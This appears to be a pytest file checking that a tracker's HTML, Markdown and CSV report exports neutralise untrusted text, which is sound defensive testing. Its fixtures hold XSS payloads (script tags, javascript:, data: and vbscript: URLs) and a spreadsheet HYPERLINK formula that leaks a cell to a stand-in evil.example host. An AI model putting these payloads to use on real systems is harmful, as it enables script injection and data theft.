"""Reports carry untrusted text: no clickable script URL, no raw HTML, no spreadsheet formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy.orm import Session, sessionmaker

from tests.integration.reporting import store
from tracker.reports.corpus import sources_report
from tracker.reports.outputs import export_document, render
from tracker.store.inputs import DocumentIn, HopIn, SourceIn, StatementIn

HOSTILE_TEXT = (
    'The minister said <script>alert("x")</script> prices would fall '
    "and [a link](javascript:alert(1)) was shared."
)
FORMULA_SPEAKER = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _hostile(factory: sessionmaker[Session], url: str) -> int:
    speaker = SourceIn(FORMULA_SPEAKER, "person")
    start = HOSTILE_TEXT.index("<script>")
    statement = StatementIn(
        start=start,
        end=len(HOSTILE_TEXT) - 1,
        kind="indirect",
        speaker=speaker,
        chain=(HopIn(source=speaker, relation="said"),),
    )
    doc = DocumentIn(
        text=HOSTILE_TEXT,
        language="en",
        url=url,
        title="<b>Bold</b> title",
        statements=(statement,),
    )
    return store(factory, doc).document.id


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
     "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"],
)  # fmt: skip
def test_html_report_links_only_http_urls(session_factory: sessionmaker[Session], url: str) -> None:
    doc_id = _hostile(session_factory, url)
    with session_factory() as session:
        page = str(export_document(session, doc_id, "html").content)
    assert 'href="javascript' not in page.lower().replace(" ", "")
    assert 'href="data:' not in page and 'href="vbscript:' not in page.lower()
    assert "<script>" not in page


def test_html_report_keeps_a_web_link(session_factory: sessionmaker[Session]) -> None:
    doc_id = _hostile(session_factory, "https://news.example/story?id=1&x=2")
    with session_factory() as session:
        page = str(export_document(session, doc_id, "html").content)
    assert 'href="https://news.example/story?id=1&amp;x=2"' in page


def test_markdown_report_escapes_html_and_markdown_links(
    session_factory: sessionmaker[Session],
) -> None:
    doc_id = _hostile(session_factory, "javascript:alert(1)")
    with session_factory() as session:
        md = str(export_document(session, doc_id, "md").content)
    assert "<script>" not in md and "<b>" not in md
    assert not re.search(r"(?<!\\)\]\(javascript:", md)  # only an escaped bracket
    assert "<javascript:" not in md
    # the words stay readable: escaped, not dropped
    assert "alert" in md and "Bold" in md


def test_markdown_report_keeps_a_web_link(session_factory: sessionmaker[Session]) -> None:
    doc_id = _hostile(session_factory, "https://news.example/a")
    with session_factory() as session:
        md = str(export_document(session, doc_id, "md").content)
    assert "<https://news.example/a>" in md


def test_corpus_csv_neutralises_formulas(session_factory: sessionmaker[Session]) -> None:
    _hostile(session_factory, "https://news.example/b")
    with session_factory() as session:
        corpus = str(render(sources_report(session), "csv").content)
    rows = list(csv.reader(io.StringIO(corpus)))
    names = [row[2] for row in rows[1:]]
    assert any("HYPERLINK" in n for n in names)
    assert all(not n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


def test_document_csv_neutralises_formulas(session_factory: sessionmaker[Session]) -> None:
    doc_id = _hostile(session_factory, "https://news.example/c")
    with session_factory() as session:
        body = str(export_document(session, doc_id, "csv").content)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows and "HYPERLINK" in rows[0]["speaker"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
